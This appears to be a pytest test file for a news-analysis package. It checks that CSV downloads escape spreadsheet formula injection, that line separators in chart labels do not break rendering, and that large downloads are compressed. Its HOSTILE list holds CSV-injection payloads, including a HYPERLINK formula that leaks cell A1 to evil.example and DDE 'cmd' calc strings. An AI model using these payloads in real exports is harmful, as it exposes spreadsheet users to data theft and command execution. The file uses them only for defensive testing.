"""CSV downloads of report tables and charts: no cell a spreadsheet would run as a formula,
whatever column type holds it."""

from __future__ import annotations

import io

import lxml.html
import polars as pl
import pytest

from tassanalysis import display
from tassanalysis.stats import sections_by_source

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def _csv(markup: str) -> pl.DataFrame:
    link = lxml.html.fromstring(markup).xpath("//a[@class='tass-download']")[0]
    text = display.download_text(link)
    return pl.read_csv(io.StringIO(text.lstrip("\ufeff")), infer_schema=False)


def _cells(frame: pl.DataFrame) -> list[str]:
    return [v for col in frame.columns for v in frame[col].to_list() if v is not None]


@pytest.mark.parametrize("make", ["list", "categorical", "enum", "array"])
def test_every_cell_of_every_column_type_is_guarded(make):
    if make == "list":
        column = pl.Series("tags", [[h, "x"] for h in HOSTILE])
    elif make == "array":
        column = pl.Series("tags", [[h, "x"] for h in HOSTILE], dtype=pl.Array(pl.String, 2))
    elif make == "categorical":
        column = pl.Series("tags", HOSTILE, dtype=pl.Categorical)
    else:
        column = pl.Series("tags", HOSTILE, dtype=pl.Enum(HOSTILE))
    got = _csv(display.csv_download(pl.DataFrame([column]), name="t"))
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in _cells(got)), _cells(got)
    assert all(cell.startswith("'") for cell in got["tags"].to_list())


def test_a_section_named_like_a_formula_is_guarded_in_sections_per_outlet():
    corpus = pl.DataFrame({"source": ["ex.org"] * 3, "section": [HOSTILE[0], HOSTILE[0], "World"]})
    table = sections_by_source(corpus)
    assert table["largest_sections"][0][0] == HOSTILE[0]  # the list column the page shows
    got = _csv(display.table_html(table, caption="Sections per outlet"))
    assert got["largest_sections"][0].startswith("'=HYPERLINK")


def test_numbers_and_ordinary_text_are_left_as_they_are():
    frame = pl.DataFrame({"n": [-2, 3], "share": [-0.5, 0.25], "t": ["-2.5", "Москва"],
                          "tags": [["a", "b"], []]})
    got = _csv(display.csv_download(frame, name="t"))
    assert got.rows() == [("-2", "-0.5", "-2.5", "a, b"), ("3", "0.25", "Москва", "")]


# ----------------------------------------------------------------------------- U+2028 in labels

SEPARATED = ["Putin\u2028Vladimir", "Lavrov\u2029Sergey", "Peskov"]


def _charts():
    import altair as alt

    from tassanalysis.charts._base import time_lines

    bars = pl.DataFrame({"name": SEPARATED, "n": [3, 5, 2]})
    lines = pl.DataFrame({"period": [f"2017-0{m}-01" for m in (1, 2, 3)] * 3,
                          "name": [n for n in SEPARATED for _ in range(3)],
                          "n": list(range(9))}).with_columns(pl.col("period").str.to_date())
    return {
        "bars sorted by a label list": alt.Chart(bars).mark_bar().encode(
            y=alt.Y("name:N", sort=SEPARATED), x="n:Q"),
        "colours sorted by a label list": alt.Chart(bars).mark_point().encode(
            x="n:Q", color=alt.Color("name:N", sort=SEPARATED)),
        "lines with a sort order": time_lines(lines, y="n", y_title="n", color="name",
                                              tooltip=["name:N"], period="month", width=300,
                                              height=200, sort=SEPARATED),
    }


@pytest.mark.parametrize("kind", sorted(_charts()))
def test_a_line_separator_in_a_label_never_stops_a_chart_drawing(tmp_path, kind):
    from conftest import dump_dom

    from tassanalysis.charts.save import save_html

    chart = _charts()[kind]
    page = save_html(chart, tmp_path / "chart.html")
    dom = dump_dom(page, tmp_path)
    assert 'class="marks"' in dom and '<pre class="tass-chart-error"' not in dom
    # the data download keeps the labels as they were
    got = _csv(display.chart_html(chart.to_dict()))
    assert set(SEPARATED) <= set(got["name"].to_list())


def test_a_large_download_is_packed_guarded_and_unpacked_by_the_browser_on_click(tmp_path):
    from conftest import dump_dom

    rows = 5_000
    frame = pl.DataFrame({"n": list(range(rows)), "name": ["Лавров", HOSTILE[0]] * (rows // 2)})
    link = display.csv_download(frame, name="big")
    assert "data-csv-gzip" in link and len(link) < len(display._csv_text(frame)) / 4
    text = display.download_text(link)
    assert text.startswith("\ufeff") and text.count("\n") == rows + 1
    assert _cells(pl.read_csv(io.StringIO(text[1:]), infer_schema=False)).count(
        "'" + HOSTILE[0]) == rows // 2
    # the browser unpacks it on the click: the second click finds the file ready
    page = tmp_path / "page.html"
    page.write_text(f"""<!doctype html><html><body>{link}<pre id="out">not clicked</pre>
<script>
var a = document.querySelector("a.tass-download");
a.click = function () {{
  fetch(a.href).then(function (r) {{ return r.text(); }}).then(function (t) {{
    document.getElementById("out").textContent =
      "ready " + a.dataset.ready + " lines " + t.split("\\n").length + " " + t.slice(0, 6);
  }});
}};
a.dispatchEvent(new MouseEvent("click", {{bubbles: true, cancelable: true}}));
</script></body></html>""", encoding="utf-8")
    out = lxml.html.fromstring(dump_dom(page, tmp_path)).get_element_by_id("out").text_content()
    assert out == f"ready 1 lines {rows + 2} n,name"
